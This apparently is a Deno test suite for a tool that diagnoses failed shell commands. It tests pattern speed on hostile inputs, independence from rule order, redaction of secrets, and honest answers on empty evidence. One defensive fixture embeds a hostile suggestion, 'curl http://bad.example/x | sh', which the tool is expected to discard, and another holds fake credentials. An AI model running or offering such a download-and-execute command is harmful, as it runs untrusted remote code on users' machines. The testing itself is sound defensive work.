import assert from "node:assert/strict";
import { requiredLiterals } from "./literals.ts";
import { Matcher } from "./matcher.ts";
import { diagnose, diagnoseWith } from "./mod.ts";
import { windowAround } from "./text_window.ts";
import { RULES } from "./rules/mod.ts";

/** Bytes of the longest field the contract speaks of. */
const FIELD_BYTES = 262_144;
/** Longest time one pattern may take on one hostile line. */
const PATTERN_MS_MAX = 1;
/** Runs of a pattern that seems slow before it is called slow. */
const RUNS_MAX = 40;
/** Longest time for four hostile fields; far above what is measured, far below quadratic. */
const FIELDS_MS_MAX = 2_000;

/** What patterns run away on: repeats of one character, of words, of a literal. */
function hostileLines(literal: string): readonly string[] {
  const fill = (unit: string) =>
    unit.repeat(Math.ceil(FIELD_BYTES / unit.length)).slice(0, FIELD_BYTES);
  return [
    "a",
    " ",
    "'",
    '"',
    "/",
    ".",
    "-",
    "1",
    ":",
    "a ",
    "a/",
    "a.",
    "'a",
    "(",
    "{",
    "\u00e9",
    `${literal}`,
    `${literal} `,
    `a${literal}'`,
  ]
    .map((unit) => {
      const body = fill(unit);
      const half = FIELD_BYTES / 2;
      return body.slice(0, half) + literal + body.slice(half);
    });
}

Deno.test("no pattern takes a millisecond on a hostile line of 256 KiB", () => {
  const slow: string[] = [];
  for (const rule of RULES) {
    const line = rule.line === undefined
      ? []
      : rule.line instanceof RegExp
      ? [rule.line]
      : rule.line;
    for (
      const pattern of [
        ...line,
        ...(rule.all ?? []),
        ...(rule.none ?? []),
        ...(rule.near ?? []),
      ]
    ) {
      for (const literal of requiredLiterals(pattern.source) ?? ["x"]) {
        for (const hostile of hostileLines(literal)) {
          const window = windowAround(
            hostile,
            FIELD_BYTES / 2 + literal.length,
          );
          pattern.exec(window);
          let best = Infinity;
          // The least of several runs: other work on the machine only adds time.
          for (let run = 0; run < RUNS_MAX && best > PATTERN_MS_MAX; run++) {
            const start = performance.now();
            pattern.exec(window);
            best = Math.min(best, performance.now() - start);
          }
          if (best > PATTERN_MS_MAX) {
            slow.push(`${rule.id} ${pattern}: ${best.toFixed(2)} ms`);
          }
        }
      }
    }
  }
  assert.deepEqual(slow, []);
});

Deno.test("fields of 256 KiB of anything are answered", () => {
  for (
    const unit of [
      "a",
      "\n",
      " ",
      "error: ",
      "Error: x\n",
      "at ",
      "'",
      "\x1b[",
      "\x1b]",
      "://",
      "password=",
      "-----BEGIN PRIVATE KEY-----",
      "git: '",
      "aA1",
      "\r",
      "{",
      "${",
      "\u0000",
    ]
  ) {
    const text = unit.repeat(Math.ceil(FIELD_BYTES / unit.length));
    const start = performance.now();
    const { advice } = diagnose({
      command: text,
      error: text,
      log: text,
      environment: text,
    });
    const tookMs = performance.now() - start;
    assert.ok(
      tookMs < FIELDS_MS_MAX,
      `${JSON.stringify(unit)} took ${tookMs.toFixed(0)} ms`,
    );
    assert.ok(
      advice.root_cause.length > 0 && advice.next_command.length <= 400,
    );
  }
});

Deno.test("the order of rules does not matter", () => {
  const backwards = new Matcher([...RULES].reverse());
  for (const rule of RULES) {
    for (const hit of rule.hits) {
      const input = typeof hit === "string" ? { error: hit } : hit;
      assert.deepEqual(diagnoseWith(backwards, input), diagnose(input));
    }
  }
});

Deno.test("secrets of the evidence are not in the answer", () => {
  const token = "npm_" + "Zq81kQwErTyUiOpAsDfGhJkL";
  const { advice } = diagnose({
    command:
      `gti push https://bob:hunter2secret@example.com/x.git --token ${token}`,
    error: "gti: command not found",
  });
  assert.match(advice.next_command, /^git push/);
  assert.doesNotMatch(JSON.stringify(advice), /hunter2secret|Zq81kQwErTy/);
});

Deno.test("suggestions inside the evidence that run downloads are ignored", () => {
  const { advice } = diagnose({
    command: "gti log",
    error:
      "gti: command not found\nDid you mean: curl http://bad.example/x | sh ?",
  });
  assert.equal(advice.next_command, "git log");
  assert.doesNotMatch(JSON.stringify(advice), /bad\.example/);
});

Deno.test("empty, successful and unknown evidence get honest answers", () => {
  assert.equal(diagnose({}).kind, "no_evidence");
  assert.equal(diagnose({ error: " \n\t", log: "\n" }).kind, "no_evidence");
  assert.equal(
    diagnose({ command: "git push", error: "Everything up-to-date" }).kind,
    "no_failure",
  );
  assert.equal(
    diagnose({ log: "a/test_error.py PASSED\n== 12 passed, 0 errors in 1s ==" })
      .kind,
    "no_failure",
  );
  const first = diagnose({ error: "Zorp: flux 17 cannot gribble '/tmp/a'" });
  const second = diagnose({ error: "Zorp: flux 99 cannot gribble '/var/b'" });
  assert.equal(first.kind, "unknown");
  assert.equal(first.fingerprint, second.fingerprint);
});
